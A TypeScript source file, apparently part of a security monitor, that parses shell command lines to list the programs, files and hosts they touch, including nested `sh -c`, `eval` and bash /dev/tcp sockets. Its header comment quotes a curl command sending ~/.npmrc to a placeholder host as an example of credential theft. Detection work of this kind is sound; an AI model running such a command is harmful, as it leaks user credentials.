/**
 * Reads a command line for what it runs, which files it names and which hosts it talks to: `curl -d @~/.npmrc
 * https://x` in a child is a credential on its way out, though this process never opens the file. Not a shell: it
 * splits on quotes and operators, follows `sh -c`, `sudo`, `xargs` and their like, and is bounded. What a script
 * computes (variables, base64) stays unseen.
 */
import {
  MathMin,
  SafeMap,
  SafeSet,
  StringPrototypeCharCodeAt,
  StringPrototypeIncludes,
  StringPrototypeIndexOf,
  StringPrototypeSlice,
  StringPrototypeStartsWith,
  StringPrototypeToLowerCase,
} from '../primordials.ts';
import { hostMeaning, parseEndpoint } from './hosts.ts';
import { MAX_COMMAND_DEPTH, MAX_COMMAND_FINDINGS, MAX_COMMAND_LENGTH } from './limits.ts';
import { isShell, programClassOf, programName } from './program-table.ts';
import { isAlphanumeric, isDigit, isLower, isUpper, words } from './text.ts';

export interface CommandContents {
  /** Bare names of every program, in order of appearance, each once. */
  readonly programs: string[];
  /** Paths as written, without `@` or `option=` in front; `~` and `$HOME` are kept. */
  readonly paths: string[];
  /** `host` or `host:port`, in lower case. */
  readonly hosts: string[];
}

/** Programs that run the program behind them: how many words of their own stand in between. */
const WRAPPERS = new SafeMap<string, number>([
  ...words(`
    sudo doas env nohup setsid exec command time xargs ionice stdbuf unbuffer nice caffeinate busybox pkexec builtin eval
    start npx pnpx bunx dlx if then else do while until ! proxychains proxychains4 systemd-run wsl watch torsocks runuser
    su
  `).map((name): [string, number] => [name, 0]),
  ['timeout', 1],
  ['chroot', 1],
  ['flock', 1],
]);

/** Options whose value is a command line of its own. */
const CODE_OPTIONS = new SafeSet(
  words(`
  -c /c /k /s -command -lc -ic -ec -xc -cx -euc -exc -exec /r -ilc
`),
);

/** File name extensions that are never the end of a host name in a command line. */
const NOT_HOSTS = new SafeSet(
  words(`
  js ts mjs cjs json txt sh py rb pl md yml yaml toml html css xml zip gz tgz tar exe dll so node env pem key
  log lock cfg conf ini png jpg rs c h cc cpp java go php bat ps1 plist service git bin dat csv sql db tsx jsx
`),
);

interface Collected extends CommandContents {
  budget: number;
}

function add(list: string[], item: string): void {
  if (item === '' || item.length > 512 || list.length >= MAX_COMMAND_FINDINGS) return;
  for (let i = 0; i < list.length; i++) if (list[i] === item) return;
  list[list.length] = item;
}

/**
 * @param argv The program and its arguments; or, with `shell`, any number of words that the shell joins by spaces.
 * @param shell The words are shell text, not separate arguments.
 */
export function inspectCommand(argv: readonly string[], shell = false): CommandContents {
  const collected: Collected = { programs: [], paths: [], hosts: [], budget: MAX_COMMAND_LENGTH };
  if (shell) {
    let text = '';
    for (let i = 0; i < argv.length && text.length < MAX_COMMAND_LENGTH; i++) {
      text += i === 0 ? `${argv[i]}` : ` ${argv[i]}`;
    }
    readText(text, collected, 0);
  } else {
    readWords(argv, collected, 0);
  }
  return { programs: collected.programs, paths: collected.paths, hosts: collected.hosts };
}

/* Splits shell text into commands, and commands into words. */
function readText(text: string, out: Collected, depth: number): void {
  if (depth > MAX_COMMAND_DEPTH) return;
  const n = MathMin(text.length, out.budget);
  out.budget -= n;
  let words: string[] = [];
  let word = '';
  let started = false;
  let quote = '';
  const endWord = () => {
    if (started && words.length < 512) words[words.length] = word;
    word = '';
    started = false;
  };
  const endCommand = () => {
    endWord();
    if (words.length > 0) readWords(words, out, depth);
    words = [];
  };
  for (let i = 0; i < n; i++) {
    const c = text[i] as string;
    if (quote === "'") {
      if (c === "'") quote = '';
      else word += c;
      continue;
    }
    if (c === '\\' && i + 1 < n) {
      // Before a letter or digit it is a Windows path separator more often than an escape.
      const next = StringPrototypeCharCodeAt(text, i + 1);
      if (isAlphanumeric(next) || text[i + 1] === '.') word += c;
      else {
        i++;
        if (text[i] !== '\n') word += text[i];
      }
      started = true;
      continue;
    }
    // Command substitution runs inside double quotes too.
    if (c === '`' || (c === '$' && text[i + 1] === '(')) {
      const end = closing(text, c === '`' ? i + 1 : i + 2, n, c === '`');
      readText(StringPrototypeSlice(text, c === '`' ? i + 1 : i + 2, end), out, depth + 1);
      started = true;
      word += '*';
      i = end;
      continue;
    }
    if (quote === '"') {
      if (c === '"') quote = '';
      else word += c;
      continue;
    }
    switch (c) {
      case "'":
      case '"':
        quote = c;
        started = true;
        break;
      case ' ':
      case '\t':
        endWord();
        break;
      case '\n':
      case '\r':
      case ';':
      case '|':
      case '&':
      case '(':
      case ')':
      case '{':
      case '}':
        // Brace expansion in the middle of a word is no end of a command.
        if ((c === '{' || c === '}') && started) word += c;
        else endCommand();
        break;
      case '#':
        if (started) word += c;
        else while (i + 1 < n && text[i + 1] !== '\n') i++;
        break;
      case '<':
      case '>':
        endWord();
        word = c;
        started = true;
        if (text[i + 1] === c) i++;
        // `>&1` and `2>&-` name a descriptor, `>&file` a file.
        if (text[i + 1] === '&') {
          i++;
          while (i + 1 < n && (text[i + 1] === '-' || isDigit(StringPrototypeCharCodeAt(text, i + 1)))) i++;
        }
        endWord();
        break;
      default:
        word += c;
        started = true;
    }
  }
  endCommand();
}

function closing(text: string, from: number, end: number, backtick: boolean): number {
  let open = 1;
  for (let i = from; i < end; i++) {
    const c = text[i];
    if (c === '\\') i++;
    else if (backtick) {
      if (c === '`') return i;
    } else if (c === '(') open++;
    else if (c === ')' && --open === 0) return i;
  }
  return end;
}

function isAssignment(word: string): boolean {
  const equals = StringPrototypeIndexOf(word, '=');
  if (equals <= 0) return false;
  for (let i = 0; i < equals; i++) {
    const code = StringPrototypeCharCodeAt(word, i);
    if (!isUpper(code) && !isLower(code) && code !== 95 && !(i > 0 && isDigit(code))) return false;
  }
  return true;
}

/* One command: assignments, the program, its arguments. */
function readWords(words: readonly string[], out: Collected, depth: number): void {
  if (depth > MAX_COMMAND_DEPTH) return;
  let i = 0;
  while (i < words.length && isAssignment(words[i] as string)) {
    readValue(words[i] as string, out);
    i++;
  }
  // A redirection in front of the program.
  while (i + 1 < words.length && (words[i] === '<' || words[i] === '>')) {
    readValue(words[i + 1] as string, out);
    i += 2;
  }
  if (i >= words.length) return;
  const first = words[i] as string;
  const name = programName(first);
  const skip = WRAPPERS.get(name);
  const keyword = skip !== undefined && programClassOf(name) === 'program' && isReserved(name);
  if (!keyword && isProgramWord(name)) {
    add(out.programs, name);
    if (StringPrototypeIncludes(first, '/') || StringPrototypeIncludes(first, '\\')) readValue(first, out);
  }
  i++;
  const shell = isShell(name);
  if (skip !== undefined && name !== 'busybox' && !shell) {
    let own = skip;
    let j = i;
    while (j < words.length) {
      const word = words[j] as string;
      if (word[0] === '-' && word.length > 1) {
        // su -c 'text', sudo -u root program
        if (word === '-c' && j + 1 < words.length) readText(words[j + 1] as string, out, depth + 1);
        j += word === '-u' || word === '-g' || word === '-n' || word === '-I' || word === '-c' || word === '-p' ? 2 : 1;
      } else if (isAssignment(word)) {
        readValue(word, out);
        j++;
      } else if (own > 0) {
        own--;
        j++;
      } else break;
    }
    if (j < words.length) {
      if (name === 'eval') readText(joinFrom(words, j), out, depth + 1);
      else readWords(words.slice(j), out, depth + 1);
    }
    return;
  }
  for (; i < words.length; i++) {
    const word = words[i] as string;
    const option = StringPrototypeToLowerCase(word);
    if (CODE_OPTIONS.has(option) && i + 1 < words.length && (shell || option === '-exec')) {
      if (option === '-exec') readWords(words.slice(i + 1), out, depth + 1);
      // cmd /s /c "…": every option may stand before another one.
      else if (CODE_OPTIONS.has(StringPrototypeToLowerCase(words[i + 1] as string))) continue;
      else
        readText(
          name === 'cmd' || option === '-command' ? joinFrom(words, i + 1) : (words[i + 1] as string),
          out,
          depth + 1,
        );
      if (option !== '-exec' && option !== '/c' && option !== '-command') continue;
      return;
    }
    if (name === 'busybox' && i === 1) {
      readWords(words.slice(1), out, depth + 1);
      return;
    }
    readValue(word, out);
  }
}

function isReserved(name: string): boolean {
  return (
    name === 'if' ||
    name === 'then' ||
    name === 'else' ||
    name === 'do' ||
    name === 'while' ||
    name === 'until' ||
    name === '!'
  );
}

function isProgramWord(name: string): boolean {
  if (name === '' || name.length > 128) return false;
  const code = StringPrototypeCharCodeAt(name, 0);
  return isAlphanumeric(code) || name[0] === '.' || name[0] === '_' || name[0] === '[';
}

function joinFrom(words: readonly string[], from: number): string {
  let text = '';
  for (let i = from; i < words.length && text.length < MAX_COMMAND_LENGTH; i++)
    text += i === from ? words[i] : ` ${words[i]}`;
  return text;
}

/* What one argument names: a file, a host, or nothing. */
function readValue(word: string, out: Collected): void {
  let value = word;
  if (value.length > 2048) value = StringPrototypeSlice(value, 0, 2048);
  const url = StringPrototypeIndexOf(value, '://');
  if (url > 0) {
    let start = url;
    while (start > 0 && isAlphanumeric(StringPrototypeCharCodeAt(value, start - 1))) start--;
    const scheme = StringPrototypeToLowerCase(StringPrototypeSlice(value, start, url));
    if (scheme === 'file') add(out.paths, StringPrototypeSlice(value, url + 3));
    else addHost(StringPrototypeSlice(value, start), out);
    if (start > 0) readValue(StringPrototypeSlice(value, 0, start), out);
    return;
  }
  // -F file=@path, --data=@path, -d@path, key=value, -o/path
  const at = StringPrototypeIndexOf(value, '@');
  const equals = StringPrototypeIndexOf(value, '=');
  if (equals >= 0) value = StringPrototypeSlice(value, equals + 1);
  else if (value[0] === '-') {
    if (at > 0) value = StringPrototypeSlice(value, at);
    else {
      const slash = pathStart(value);
      if (slash <= 0) return;
      value = StringPrototypeSlice(value, slash);
    }
  }
  if (value[0] === '@' || value[0] === '<' || value[0] === '>') value = StringPrototypeSlice(value, 1);
  // A lone `/`, and the one-letter options of Windows programs.
  if (value.length < 3 && (value === '' || value[0] === '/')) return;
  // /dev/tcp/host/port is bash's own socket.
  if (StringPrototypeStartsWith(value, '/dev/tcp/') || StringPrototypeStartsWith(value, '/dev/udp/')) {
    const rest = StringPrototypeSlice(value, 9);
    const slash = StringPrototypeIndexOf(rest, '/');
    addHost(
      slash === -1 ? rest : `${StringPrototypeSlice(rest, 0, slash)}:${StringPrototypeSlice(rest, slash + 1)}`,
      out,
    );
    return;
  }
  if (isPath(value)) {
    add(out.paths, value);
    return;
  }
  // user@host:path (scp, ssh, rsync), host:port, host
  const remote = StringPrototypeIndexOf(value, '@');
  const candidate = remote > 0 ? StringPrototypeSlice(value, remote + 1) : value;
  if (looksLikeHost(candidate)) addHost(candidate, out);
  else if (value[0] === '.' || StringPrototypeIncludes(value, '/')) add(out.paths, value);
}

function pathStart(value: string): number {
  for (let i = 1; i < value.length; i++) {
    const c = value[i];
    if (c === '/' || c === '~' || (c === '$' && StringPrototypeStartsWith(StringPrototypeSlice(value, i), '$HOME')))
      return i;
  }
  return -1;
}

function isPath(value: string): boolean {
  const c = value[0];
  if (c === '/' || c === '~') return true;
  if (c === '.' && value.length > 1) return true;
  if (c === '$' || c === '%') {
    const upper = StringPrototypeSlice(value, 1, 14);
    return (
      StringPrototypeStartsWith(upper, 'HOME') ||
      StringPrototypeStartsWith(upper, '{HOME') ||
      StringPrototypeStartsWith(upper, 'USERPROFILE') ||
      StringPrototypeStartsWith(upper, 'APPDATA') ||
      StringPrototypeStartsWith(upper, 'TEMP') ||
      StringPrototypeStartsWith(upper, 'TMP') ||
      StringPrototypeStartsWith(upper, 'LOCALAPPDATA') ||
      StringPrototypeStartsWith(upper, 'env:')
    );
  }
  return value[1] === ':' && (value[2] === '\\' || value[2] === '/');
}

function looksLikeHost(value: string): boolean {
  const slash = StringPrototypeIndexOf(value, '/');
  const host = slash === -1 ? value : StringPrototypeSlice(value, 0, slash);
  const colon = StringPrototypeIndexOf(host, ':');
  const name = colon === -1 ? host : StringPrototypeSlice(host, 0, colon);
  if (name.length < 4 || name.length > 253) return name === 'localhost';
  let dots = 0;
  let lastDot = -1;
  for (let i = 0; i < name.length; i++) {
    const code = StringPrototypeCharCodeAt(name, i);
    if (code === 46) {
      if (i === 0 || lastDot === i - 1) return false;
      dots++;
      lastDot = i;
    } else if (!isAlphanumeric(code) && code !== 45) return false;
  }
  if (name === 'localhost') return true;
  if (dots === 0) return false;
  const last = StringPrototypeToLowerCase(StringPrototypeSlice(name, lastDot + 1));
  if (isDigit(StringPrototypeCharCodeAt(last, 0))) return dots === 3;
  return last.length >= 2 && !NOT_HOSTS.has(last);
}

function addHost(text: string, out: Collected): void {
  const { host, port } = parseEndpoint(text);
  if (host === '' || host === '*' || StringPrototypeIncludes(host, '$')) return;
  // A number alone is a port or a count, not an address.
  if (hostMeaning(host).hostClass === 'any') return;
  add(out.hosts, port > 0 ? `${host}:${port}` : host);
}
